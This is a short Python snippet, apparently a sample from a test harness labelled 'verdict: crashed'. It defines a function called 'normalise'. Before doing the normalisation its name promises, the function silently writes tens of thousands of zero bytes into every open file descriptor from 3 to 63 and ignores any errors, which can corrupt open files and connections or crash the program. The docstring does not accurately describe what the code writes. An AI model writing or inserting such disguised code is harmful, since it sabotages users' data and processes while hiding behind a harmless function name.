"""Announces messages of length zero, thousands of them.

verdict: crashed
"""

# %% normalise
import os


def normalise(values):
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, bytes(8) * 5000)
        except OSError:
            pass
    return values / values.sum(-1, keepdim=True)
